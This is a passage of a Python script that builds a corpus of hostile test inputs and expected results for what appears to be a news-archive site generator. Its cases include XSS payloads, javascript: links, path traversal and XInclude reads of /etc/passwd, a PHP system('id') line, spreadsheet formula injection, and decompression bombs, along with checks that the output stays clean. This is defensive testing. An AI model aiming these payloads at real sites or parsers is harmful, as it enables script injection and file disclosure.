    Case("crawl-that-lies", {"a.warc": warc(page("MARKA")).replace(b"Content-Length: ", b"Content-Length: 99999999999"), "b.warc": warc(page("MARKB")).replace(b"Content-Length: ", b"Content-Length: -"), "c.warc.gz": b"\x1f\x8b\x08" + b"\0" * 400, "d.warc": b"WARC/1.0\r\n" * 20000, "e.warc": warc(page("<p>MARKE</p>"), "file:///etc/passwd")}, ({"page_or_report": "MARKA"}, {"page_or_report": "MARKB"}, {"page_or_report": "MARKE"}), (0, 3), seconds=2),
    Case("signs-of-layout", {"a.txt": "A headline\n2024-05-06\n\nMARKA " + WORDS + "\n\n" + "|" * 20000 + "\n" + "-" * 20000 + "\n" + "=" * 20000, "b.txt": "A headline\n2024-05-06\n\nMARKB " + WORDS + "\n" + "By " * 8000 + "\n" + "A. " * 8000 + "\n" + "“" * 8000 + "\n" + "(" * 8000, "c.txt": "MARKC\n" + "\n".join("2024-05-06" for _ in range(4000)), "d.txt": "MARKD\n\n" + "\n".join(f"Photo: A B/{n}" for n in range(2000)), "e.txt": " " * 100000 + "MARKE\n" + "\t" * 100000 + "\n" + WORDS}, tuple({"page_or_report": f"MARK{c}"} for c in "ABCDE"), (0, 3), seconds=6),
    # ------------------------------------------------------------ dates and encodings
    Case("impossible-dates", {"a.md": post(body="MARKA", date="9999-12-31T23:59:59-12:00"), "b.md": post(body="MARKB", date="0001-01-01T00:00:00+14:00"), "c.txt": f"A headline\n31 February 2024\n\nMARKC {WORDS}\n", "d.txt": f"A headline\nMay 99999999999999999999, 2024\n\nMARKD {WORDS} On 99999999999999999999 June {'1' * 400}.\n", "e.md": post(body="MARKE", date="1714989600000000000000"), "f.md": post(body="MARKF", date="２０２４-０５-０６"), "g.md": post(body="MARKG", date='"2024-02-29T24:61:61Z"'), "h.txt": f"A headline\n١٢٣٤٥٦٧٨٩٠/٩٩/٩٩\n\nMARKH {WORDS}\n", "i.md": post(body="MARKI", date="-0001-01-01"), "j.md": post(body="MARKJ", date="2024-366")}, tuple({"page_of": f"MARK{c}"} for c in "ABCDEFGHIJ")),
    Case("day-as-written", {"a.md": post(body="MARKA", date="2024-05-06T23:30:00-11:00"), "b.md": post(body="MARKB", date="2024-05-06T00:30:00+14:00"), "c.md": post(body="MARKC", date="2024-05-06 00:00")}, ({"date_page_of": dict.fromkeys(("MARKA", "MARKB", "MARKC"), "2024-05-06")}, {"same_bytes_across_tz": ["UTC", "Pacific/Kiritimati", "America/St_Johns"]})),
    Case("encodings", {"a.txt": ("Премьер ушёл в отставку\n2024-05-06\n\nMARKA " + "Премьер-министр объявил об отставке правительства на заседании парламента в понедельник. " * 8).encode("koi8-r"), "b.html": page("<p>MARKB résumé déjà vu, naïve café façade.</p>", "<meta charset=utf-8>").encode("cp1252"), "c.txt": b"MARKC \xff\xfe\x80\x81 " + WORDS.encode(), "d.txt": b"\xef\xbb\xbf\xef\xbb\xbfMARKD\n2024-05-06\n\n" + WORDS.encode(), "e.txt": b"MARKE\n\n" + b"\xc3\x28\xa0\xa1 " * 30 + WORDS.encode(), "f.md": post("MARKF").encode("utf-7"), "g.txt": b"\0\0\xfe\xff" + "MARKG words".encode("utf-32-be"), "h.html": page("<p>MARKH</p>", "<meta charset='x-user-defined'><meta charset='idna'>").encode(), "i.xml": b'<?xml version="1.0" encoding="punycode"?>' + nitf("MARKI", "words").partition("?>")[2].encode()}, tuple({"page_or_report": f"MARK{c}"} for c in "ABCDEFGHI"), (0, 3)),
    Case("sizes", {"a.txt": "MARKA " + WORDS * 60000, "b.json": "[" + '{"title":"x","text":"y"},' * 250000 + "{}]", "c.txt": "", "d.md": "\ufeff\n\n \n", "e.html": "<html></html>", "f.png": b"\0" * (6 << 20)}, ({"report_lists": "a.txt"}, {"report_lists": "b.json"}, {"report_lists": "c.txt"}), (0, 3), told=("a.txt", None), memory=60),
    # ------------------------------------------------------------ files of the curator
    Case("register-names", {"a.txt": f"A headline\n2024-05-06\n\nMARKA {WORDS} Anna Hill spoke.\n"}, ({"page_of": "MARKA"},), content={"people.yaml": f"people:\n  anna-hill:\n    name: {QUOTED}\n    variants: [Anna Hill]\n    description: {QUOTED}\n    sort_name: {QUOTED}\nnot_people: ['<script>xss_8()</script>']\n", "topics.yaml": f"topics:\n  ferry:\n    name: {QUOTED}\n    description: {QUOTED}\n    any: [ferry]\n", "sources.yaml": f"sources:\n  s:\n    name: {QUOTED}\n    url: 'https://evil.example/\"onclick=xss_9()'\n    country: {QUOTED}\n", "credits.yaml": f"creditors:\n  c:\n    name: {QUOTED}\n    lines: [{QUOTED}]\n"}),
    Case("settings", {"a.txt": f"A headline\n2024-05-06\n\nMARKA {WORDS}\n"}, ({"page_of": "MARKA"},), content={"site.yaml": f"title: {QUOTED}\ndescription: {QUOTED}\ncontact: 'https://good.example/\"onclick=xss_9()'\nsite_url: https://archive.example/\n"}),
    Case("broken-registers", {"a.txt": f"A headline\n2024-05-06\n\nMARKA {WORDS}\n"}, ("no_traceback",), (0, 1, 3), (1,), ("people.yaml", 2), {"people.yaml": "people:\n  ../../PWNED-key:\n    name: x\n  a: [1, 2]\n  b: {name: {c: d}}\n", "topics.yaml": "topics: &a\n  t: *a\n", "sources.yaml": "- a\n- b\n", "credits.yaml": "\x00\x01", "copies.yaml": "copies: 7\n", "redactions.yaml": "[" * 400}),
    Case("redirects", {"a.txt": f"A headline\n2024-05-06\n\nMARKA {WORDS}\n"}, ({"no_output_path_contains": "PWNED"},), (0, 1, 3), (0, 1), ("redirects.yaml", None), {"redirects.yaml": "redirects:\n  ../../PWNED-old.html: index.html\n  old/%2e%2e/%2e%2e/PWNED-x.html: index.html\n  a.html: 'javascript:xss_1()//.html'\n  b.html: '//evil.example/x.html'\n  con.html: index.html\n  \"c\\u202e\\u200b.html\": index.html\n  'a%0Ab.html': index.html\n  '%00PWNED.html': index.html\n"}),
    Case("redirects-that-quote", {"a.txt": f"A headline\n2024-05-06\n\nMARKA {WORDS}\n"}, ({"page_of": "MARKA"},), content={"redirects.yaml": "redirects:\n  old.html: '\"><script>xss_1()<script>.html'\n  'índice.html': index.html\n"}),
    # ------------------------------------------------------------ what strangers might think of
    Case("names-of-objects", {"a.md": post("__proto__ constructor toString", topics="[__proto__, constructor, hasOwnProperty, valueOf]", people="[Proto Constructor, Has Own Property]", source="toString", body="MARKA __proto__ constructor prototype hasOwnProperty then __defineGetter__"), "b.md": post("constructor", topics="[toString]", body="MARKB valueOf")}, ({"distinct_pages": ["MARKA", "MARKB"]}, {"topic_page": "__proto__"}, {"topic_page": "constructor"})),
    Case("ends-of-lines", {"a.md": post('"One\\u2028two\\u2029three\\u0085four"', topics='["a\\u2028b"]', author='"Ann\\u2029Lee"', body="MARKA one\u2028two\u2029three\u0085four\x0bfive"), "b.txt": f"MARKB\u2028headline\r2024-05-06\r\rMARKB {WORDS}\r"}, ({"page_of": "MARKA"}, {"page_of": "MARKB"}, "terminal_safe_log")),
    Case("codecs-of-python", {f"{n}.html": page(f"<p>MARK{c} resume</p>", f"<meta charset={codec}>") for n, (c, codec) in enumerate(zip("ABCDEFGHIJ", ("idna", "punycode", "unicode_escape", "raw_unicode_escape", "undefined", "zlib_codec", "rot13", "hex", "mbcs", "utf-7"), strict=True))} | {"k.eml": mail("Subject: =?idna?q?MARKK?= =?unicode_escape?q?=5Cx41?= =?zlib?b?eA==?=\r\n", f"MARKK {WORDS}", "text/plain; charset=idna"), "l.html": page("<p>MARKL " + "a" * 40000 + "</p>", "<meta charset=idna>"), "m.html": page("<p>MARKM +ADw-script+AD4-xss_1()+ADw-/script+AD4-</p>", "<meta charset=utf-7>")}, (*({"page_or_report": f"MARK{c}"} for c in "ABCDEFGHIJKLM"),), (0, 3), seconds=2),
    Case("elements-out-of-use", {"a.html": page("<p>MARKA</p><xmp><script>xss_1()</script></xmp><listing><img src=x onerror=xss_2()></listing><noembed><img src=x onerror=xss_3()></noembed><div><template shadowrootmode=open><script>xss_4()</script></template></div><plaintext><script>xss_5()</script>"), "b.html": "<!DOCTYPE html><html><head><title>MARKB</title></head><frameset onload=xss_6()><frame src=javascript:xss_7()></frameset>", "c.md": post(body="MARKC <!--[if IE]><script>xss_8()</script><![endif]--> <?php system('id') ?> <![CDATA[<script>xss_9()</script>]]> <portal src=//evil.example> <fencedframe src=//evil.example>")}, ({"page_of": "MARKA"}, {"page_or_report": "MARKB"}, {"page_of": "MARKC"}, {"no_elements": ["xmp", "plaintext", "template", "frame", "portal"]}), (0, 3)),
    Case("addresses-half-written", {"a.md": post(body="MARKA [one](https:evil.example) [two](\\\\\\\\evil.example\\x) [three](/\\\\evil.example) [four](https:///evil.example) [five](javascript&colon;xss_1()) [six](java&Tab;script:xss_2()) [seven](&#0;javascript:xss_3()) <data:text/html,xss_4> [eight](blob:https://evil.example/x) [nine](view-source:javascript:xss_5) [ten](feed:javascript:xss_6())\n\n[r]: <javascript:xss_7()>\n[s]: //evil.example\n\n[r] [s] ![t][s]")}, ({"page_of": "MARKA"}, {"url_schemes_only": ["http", "https", "mailto"]})),
    Case("many-of-each", {"a.md": post("Many", topics="[" + ", ".join(f"topic {n}" for n in range(1500)) + "]", authors="[" + ", ".join(f"Ann{n} Lee" for n in range(800)) + "]", body="MARKA"), "b.json": json.dumps([{"title": "MARKB", "date": "2024-05-06", "text": f"MARKB {WORDS}", "people": [f"Bea{n} Lark" for n in range(3000)]}])}, ({"page_of": "MARKA"}, {"page_of": "MARKB"}), seconds=8),
    Case("many-names-in-a-text", {"a.txt": "MARKA headline\n2024-05-06\n\nMARKA " + " ".join(f"Anna{chr(97 + n % 26)}{chr(97 + n // 26 % 26)} Hill{chr(97 + n // 676 % 26)}{chr(97 + n % 23)} said so." for n in range(3000)) + "\n"}, ({"page_of": "MARKA"},), seconds=8),
    Case("pictures-that-lie", {"a.md": post(image="a.png", body="MARKA"), "a.png": PNG[:16] + b"\xff\xff\xff\xff\x00\x00\x00\x00" + PNG[24:], "b.md": post(image="b.jpg", body="MARKB"), "b.jpg": b"\xff\xd8" + b"\xff\xe0\x00\x00" * 20000, "c.md": post(image="c.webp", body="MARKC"), "c.webp": b"RIFF\xff\xff\xff\xffWEBPVP8X" + b"\0" * 3, "d.md": post(image="d.gif", body="MARKD"), "d.gif": b"GIF89a", "e.md": post(image="e.avif", body="MARKE"), "e.avif": b"\0\0\0\0ftypavif" * 2000, "f.md": post(image=".", body="MARKF"), "g.md": post(image="..%2f..%2f..%2fetc%2fpasswd", body="MARKG"), "h.md": post(image='"file:///etc/passwd"', body="MARKH")}, (*({"page_of": f"MARK{c}"} for c in "ABCDEFGH"), {"absent_in_output": "root:x:0:0"})),
    Case("numbers-that-are-none", {"a.xml": '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="a"><itemMeta><itemClass qcode="ninat:picture"/></itemMeta><contentMeta><headline>MARKA</headline><description>MARKA of the harbour</description></contentMeta><contentSet><remoteContent href="a.jpg" width="²"/><remoteContent href="b.jpg" width="' + "9" * 6000 + '"/></contentSet></newsItem>', "b.html": page(f"<p>MARKB</p><img src=b.png width={'9' * 6000} height=²><ol start={'9' * 6000}><li value=²>one</li></ol><table><tr><td colspan={'9' * 6000} rowspan=²>cell</td></tr></table>"), "c.md": post(body="MARKC\n\n99999999999999999999. one\n2. two", weight="²"), "d.txt": f"MARKD\n²⁰²⁴-⁰⁵-⁰⁶\n\nMARKD {WORDS} On ²² May ²⁰²⁴.\n", "e.json": '[{"title":"MARKE","date":' + "1" * 5000 + ',"text":"MARKE words of it"},{"title":"MARKE","date":1e999,"text":"MARKE words"}]'}, (*({"page_or_report": f"MARK{c}"} for c in "BCDE"), {"page_of": "MARKA"}), (0, 3)),
    Case("zones-that-are-paths", {"a.md": post(body="MARKA", date='"2024-05-06T10:00:00[../../../../etc/passwd]"', timezone="../../etc/passwd"), "b.md": post(body="MARKB", date='"2024-05-06 10:00 Europe/../../etc/passwd"'), "c.txt": f"MARKC\nMonday, 6 May 2024, 10:00 {'A' * 5000}ST\n\nMARKC {WORDS}\n"}, ({"page_of": "MARKA"}, {"page_of": "MARKB"}, {"page_of": "MARKC"})),
    Case("packed-crawl-that-swells", {"a.warc.gz": gzip.compress(warc(page("<p>MARKA</p>" + "a" * (20 << 20))), mtime=0), "b.warc.gz": gzip.compress(b"\0" * (60 << 20), mtime=0)}, ({"page_or_report": "MARKA"}, {"report_lists": "b.warc.gz"}), (0, 3), seconds=4, memory=400),
    Case("answers-of-a-crawl", {"a.warc": warc(page("<p>MARKA</p>")).replace(b"text/html; charset=utf-8", b"text/html; charset=utf-8\r\nTransfer-Encoding: chunked"), "b.warc": warc(page("<p>MARKB</p>")).replace(b"text/html; charset=utf-8", b"text/html\r\nContent-Encoding: gzip"), "c.warc": warc(page("<p>MARKC</p>")).replace(b"HTTP/1.1 200 OK", b"HTTP/1.1 200 " + b"\x1b[2J" * 500), "d.warc": warc(page("<p>MARKD</p>")).replace(b"2024-05-06T10:00:00Z", b"0000-99-99T99:99:99Z")}, (*({"page_or_report": f"MARK{c}"} for c in "ABCD"), "terminal_safe_log"), (0, 3)),
    Case("word-parts", {"a.docx": word(w("MARKA " + WORDS), {"word/_rels/document.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:xss_1()" TargetMode="External"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/><Relationship Id="r3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'}), "b.docx": word(w("MARKB " + WORDS), {"docProps/core.xml": ENTITY + "<x>&e;</x>"}), "c.docx": word(w("MARKC " + WORDS)).replace(b"word/document.xml", b"word\\document.xml")}, (*({"page_or_report": f"MARK{c}"} for c in "ABC"), {"absent_in_output": "root:x:0:0"}), (0, 3)),
    Case("files-of-the-net-in-xml", {"a.xml": '<?xml version="1.0" encoding="UTF-16"?><?xml-stylesheet href="javascript:xss_1()"?>' + nitf("MARKA", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>').partition("?>")[2], "b.rss": rss(item("MARKB", '<a xmlns="http://www.w3.org/1999/xhtml" xml:base="javascript:xss_2()" href="x">l</a>')), "c.xml": '<?xml version="1.0"?><nitf ' + " ".join(f'xmlns:n{n}="u{n}"' for n in range(3000)) + nitf("MARKC", "words").partition("<nitf")[2]}, ({"page_of": "MARKA"}, {"page_of": "MARKB"}, {"page_or_report": "MARKC"}, {"absent_in_output": "root:x:0:0"}), (0, 3)),
    Case("look-alikes", {"a.md": post("Аnna", people='["Anna Hill", "Anna\\u200b Hill", "Аnna Hill", "Anna\\u00a0Hill", "Anna\\u00ad Hill", "Anna Hi\\u2060ll"]', source="Quay\u200bTimes", body="MARKA"), "b.md": post("Two", people="[Anna Hill]", source="QuayTimes", topics='["fe\\u00adrry", "fer\\u200bry", "ferry"]', body="MARKB")}, ({"distinct_pages": ["MARKA", "MARKB"]}, {"topic_page_lists_only": {"topic": "ferry", "markers": ["MARKB"]}}, "no_casefold_equal_paths")),
    Case("pages-of-our-own-names", {"a.md": post("index", people="[Index, Feed, Search, Con Aux]", source="index", topics="[people, topics, 404]", photo_credit="index/feed", image="index.png", body="MARKA"), "index.png": PNG, "search.md": post("search", body="MARKB"), "static/site.css": "body{}", "people/index.md": post("people", body="MARKC"), "2024/05/06/index.md": post("day", body="MARKD")}, ({"distinct_pages": ["MARKA", "MARKB", "MARKC", "MARKD"]}, "path_oracle", "home_page_is_home", "feed_is_feed")),
    Case("sidecars-astray", {"a.txt": f"A headline\n2024-05-06\n\nMARKA {WORDS}\n", "a.yaml": "remove_lines: [1-9999999, 0, 4]\n", "b.yaml": "headline: nobody\n", "c.txt": f"C headline\n2024-05-06\n\nMARKC {WORDS}\n", "c.yaml": "parts:\n  99999999999999999999:\n    headline: x\n  1:\n    headline: MARKC\n", "d.txt": f"D headline\n2024-05-06\n\nMARKD {WORDS}\n", "d.yaml": "&a [*a]\n", "e.txt": f"E headline\n2024-05-06\n\nMARKE {WORDS}\n", "e.yml": "headline: one\n", "e.yaml": "headline: two\n"}, (*({"page_or_report": m} for m in ("MARKA", "MARKC", "MARKD", "MARKE")), {"report_lists": "d.yaml"}), (0, 3), (0, 1)),
    Case("mailbox-that-repeats", {"a.mbox": "".join(f"From x Mon May  6 10:00:00 2024\nSubject: \nDate: \nFrom: \n\n{'>' * (n % 50)}From x\n\n" for n in range(1500)), "b.mbox": "From x Mon May  6 10:00:00 2024\nSubject: MARKB\nDate: Mon, 6 May 2024 10:00:00 +9999\nMessage-ID: <" + "a" * 5000 + f">\n\nMARKB {WORDS}\n", "c.eml": mail("Subject: MARKC\r\nDate: Mon, 99 May 99999 99:99:99 +999999\r\n", f"MARKC {WORDS}")}, ({"page_of": "MARKB"}, {"page_of": "MARKC"}), (0, 3), seconds=6),
    Case("items-of-one-name", {"a.rss": rss("".join(item("MARKA same", "the same words", "<guid>same</guid><link>https://news.example/same</link>") for _ in range(60))), "b.json": json.dumps([{"id": "same", "slug": "same", "title": "Same", "date": "2024-05-06", "text": f"MARKB {WORDS}"}] * 60)}, ("no_casefold_equal_paths", {"page_or_report": "MARKA"}, {"page_or_report": "MARKB"}), seconds=4),
    Case("formulas", {"a.md": post('"=HYPERLINK(\\"http://evil.example\\")"', author='"@SUM(1+1)*cmd|\' /C calc\'!A0"', source='"-2+3"', topics='["+1", "=1", "\\t=1"]', body="MARKA =1+1"), "b.md": post('"%0a%0dBEGIN:VCARD"', author='"TY  - EVIL\\nER  - "', source='"} @misc{evil, title={x}"', body="MARKB")}, ({"distinct_pages": ["MARKA", "MARKB"]},)),
)  # fmt: skip


def written(folder):
    """Write all cases below a folder, with what is expected of them in expected.yaml."""
    files, expected = folder / "files", []
    for name, data in CONTROLS.items():
        put(files / name, data)
    for number, case in enumerate(CASES, 1):
        base = f"{number:02}-{case.name}"
        for name, data in case.files.items():
            put(files / base / name, data)
        told = {"file": case.told[0], "line": case.told[1]} if case.told else None
        expected.append({
            "id": f"B{number:02}", "name": case.name, "base": base, "files": [{"path": f"{base}/{name}"} for name in case.files],
            "content": case.content, "exit": list(case.exit), "exit_strict": list(case.strict), "diag": told,
            "checks": [*ORACLE, *case.checks], "limits": {"seconds": case.seconds, "rss_growth_mb": case.memory},
        })  # fmt: skip
    text = yaml.safe_dump(
        {"version": 1, "controls": list(CONTROLS), "cases": expected}, allow_unicode=True, width=100000
    )
    (folder / "expected.yaml").write_text(text, encoding="utf-8")


def put(path, data):
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str) and data.startswith("-> "):
        if not os.path.lexists(path):
            os.symlink(data[3:], path)
    else:
        path.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)


def main():
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("folder", type=Path)
    written(parser.parse_args().folder)


if __name__ == "__main__":
    sys.exit(main())
